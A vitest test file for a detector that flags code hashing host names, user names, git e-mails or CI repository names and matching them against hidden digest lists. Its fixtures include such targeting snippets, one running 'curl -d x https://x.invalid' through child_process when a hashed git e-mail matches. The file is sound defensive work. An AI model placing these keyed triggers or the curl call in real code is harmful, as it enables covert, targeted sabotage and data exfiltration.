import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { hashedListMatch, isDigestShaped } from '../../../src/analysis/detectors/hashed-list-match.js';
import { findingsFor, runDetectorCases, type DetectorCase } from '../../support/detector-cases.js';

const digest = (algorithm: string, text: string, encoding: 'hex' | 'base64' | 'base64url' = 'hex'): string =>
  createHash(algorithm).update(text).digest(encoding);
const HOSTS = ['build-01', 'ci-acme', 'dev-box'].map((h) => `'${digest('sha256', h)}'`).join(', ');
const REPOS = ['acme/api', 'acme/web'].map((r) => `"${digest('sha256', r)}"`).join(',');
const HASH_REPO = `const h = require('crypto').createHash('sha256').update(process.env.GITHUB_REPOSITORY || '').digest('hex');`;

const CASES: DetectorCase[] = [
  {
    name: 'hashed host name in a list of digests exits',
    code: `const crypto = require('crypto');\nconst os = require('os');\nconst h = crypto.createHash('sha256').update(os.hostname()).digest('hex');\nif ([${HOSTS}].includes(h)) process.exit(1);`,
    expect: [{ severity: 'high', sourceKind: 'hostname', messageIncludes: '3 literal digest(s)' }],
    twin: { code: `const crypto = require('crypto');\nconst fs = require('fs');\nconst h = crypto.createHash('sha256').update(fs.readFileSync('bundle.js')).digest('hex');\nif ([${HOSTS}].includes(h)) process.exit(1);` },
  },
  {
    name: 'md5 of the user name compared by equality',
    code: `const { createHash } = require('node:crypto');\nconst u = require('os').userInfo().username;\nmodule.exports = () => createHash('md5').update(u).digest('hex') === '${digest('md5', 'alice')}';`,
    expect: [{ severity: 'high', sourceKind: 'user', messageIncludes: 'md5' }],
    twin: { code: `const { createHash } = require('node:crypto');\nmodule.exports = (u) => createHash('md5').update(u).digest('hex') === '${digest('md5', 'alice')}';` },
  },
  {
    name: 'minified: hashed git e-mail from a one-letter helper in a Set',
    code: `var c=require("child_process"),k=require("crypto");function e(){return c.execSync("git config user.email").toString().trim()}var S=new Set(["${digest('sha1', 'a@acme.example')}","${digest('sha1', 'b@acme.example')}"]);S.has(k.createHash("sha1").update(e()).digest("hex"))&&c.execSync("curl -d x https://x.invalid");`,
    expect: [{ severity: 'high', sourceKind: 'git-identity', messageIncludes: 'sha1' }],
    twin: { code: `var c=require("child_process"),k=require("crypto");function e(){return c.execSync("git rev-parse HEAD").toString().trim()}var S=new Set(["${digest('sha1', 'a@acme.example')}","${digest('sha1', 'b@acme.example')}"]);S.has(k.createHash("sha1").update(e()).digest("hex"))&&c.execSync("curl -d x https://x.invalid");` },
  },
  {
    name: 'hashed CI repository in a list of sha256 hex digests',
    code: `${HASH_REPO}\nif ([${REPOS}].includes(h)) process.exit(1);`,
    expect: [{ severity: 'high', sourceKind: 'ci', messageIncludes: '2 literal digest(s)' }],
    // A bundle that hashes the value and then looks for path separators in it compares it with no list.
    twin: { code: `${HASH_REPO}\nif (h.includes('/') || h.includes('\\\\')) process.exit(1);` },
  },
  {
    name: 'minified: base64 sha256 digests of the host name',
    code: `var o=require("os"),c=require("crypto"),d=c.createHash("sha256").update(o.hostname()).digest("base64");["${digest('sha256', 'build-01', 'base64')}","${digest('sha256', 'dev-box', 'base64')}"].indexOf(d)>-1&&process.exit(1);`,
    expect: [{ severity: 'high', sourceKind: 'hostname', messageIncludes: '2 literal digest(s)' }],
    twin: { code: `var o=require("os"),c=require("crypto"),d=c.createHash("sha256").update(o.hostname()).digest("base64");["none","-"].indexOf(d)>-1&&process.exit(1);` },
  },
  {
    name: 'md5 digests of the user name, the literal length of md5',
    code: `const c = require('crypto');\nconst u = require('os').userInfo().username;\nif (c.createHash('md5').update(u).digest('hex') === '${digest('md5', 'bob')}') process.exit(2);`,
    expect: [{ severity: 'high', sourceKind: 'user', messageIncludes: '1 literal digest(s)' }],
    // 64 hex digits can never be an md5 digest.
    twin: { code: `const c = require('crypto');\nconst u = require('os').userInfo().username;\nif (c.createHash('md5').update(u).digest('hex') === '${digest('sha256', 'bob')}') process.exit(2);` },
  },
  {
    name: 'algorithm from a variable: any digest-sized literal counts',
    code: `const c = require('crypto');\nmodule.exports = (alg) => new Set(['${digest('sha1', 'carol')}']).has(c.createHash(alg).update(require('os').hostname()).digest('hex'));`,
    expect: [{ severity: 'high', sourceKind: 'hostname', messageIncludes: 'unknown' }],
    twin: { code: `const c = require('crypto');\nmodule.exports = (alg) => new Set(['abc123', 'ffff']).has(c.createHash(alg).update(require('os').hostname()).digest('hex'));` },
  },
  {
    name: 'base64url sha512 digest without padding',
    code: `const c = require('crypto');\nif (c.createHash('sha512').update(process.env.USER).digest('base64url') === '${digest('sha512', 'dave', 'base64url')}') process.exit(1);`,
    expect: [{ severity: 'high', sourceKind: 'user', messageIncludes: 'sha512' }],
    twin: { code: `const c = require('crypto');\nif (c.createHash('sha512').update(process.env.USER).digest('base64url') === '${digest('sha256', 'dave', 'base64url')}') process.exit(1);` },
  },
];

runDetectorCases(hashedListMatch, CASES);

describe('isDigestShaped', () => {
  it.each<[string, string, string, boolean]>([
    ['sha256 hex', digest('sha256', 'x'), 'sha256', true],
    ['sha256 hex, upper case', digest('sha256', 'x').toUpperCase(), 'SHA256', true],
    ['sha256 base64, padded', digest('sha256', 'x', 'base64'), 'sha256', true],
    ['sha256 base64url', digest('sha256', 'x', 'base64url'), 'sha-256', true],
    ['sha256 name with an RSA prefix', digest('sha256', 'x'), 'RSA-SHA256', true],
    ['md5 hex', digest('md5', 'x'), 'md5', true],
    ['md5 base64', digest('md5', 'x', 'base64'), 'md5', true],
    ['sha1 hex', digest('sha1', 'x'), 'sha1', true],
    ['sha384 base64', digest('sha384', 'x', 'base64'), 'sha384', true],
    ['sha512 hex', digest('sha512', 'x'), 'sha512', true],
    ['sha1 hex is not sha256', digest('sha1', 'x'), 'sha256', false],
    ['sha256 hex is not md5', digest('sha256', 'x'), 'md5', false],
    ['a slash', '/', 'sha256', false],
    ['a backslash', '\\', 'sha256', false],
    ['a word', 'production', 'sha256', false],
    ['hex of the right length but a stray letter', `${digest('sha256', 'x').slice(0, 63)}g`, 'sha256', false],
    ['unknown algorithm, a sha1 digest', digest('sha1', 'x'), 'unknown', true],
    ['unknown algorithm, a sha512 digest in base64', digest('sha512', 'x', 'base64'), 'unknown', true],
    ['unknown algorithm, too short', 'abcdef12', 'unknown', false],
    ['unknown algorithm, too long', digest('sha512', 'x').repeat(2), 'unknown', false],
  ])('%s', (_name, value, algorithm, expected) => {
    expect(isDigestShaped(value, algorithm)).toBe(expected);
  });
});

describe('hashed-list-match evidence', () => {
  it('counts and keeps only the digest-shaped literals of a mixed list', () => {
    const code = `${HASH_REPO}\nif (['/', 'main', ${REPOS}].includes(h)) process.exit(1);`;
    const [finding] = findingsFor(hashedListMatch, code);
    expect(finding?.message).toContain('2 literal digest(s)');
    expect(finding?.evidence.list?.values).toEqual([digest('sha256', 'acme/api'), digest('sha256', 'acme/web')]);
    expect(finding?.evidence.list?.hashed).toEqual({ algorithm: 'sha256', count: 2 });
  });

  it('says the list cannot be read and how many entries it has', () => {
    const [finding] = findingsFor(hashedListMatch, CASES[0]?.code ?? '');
    expect(finding?.evidence.list?.hashed).toEqual({ algorithm: 'sha256', count: 3 });
    expect(finding?.message).toContain('cannot be read');
  });
});
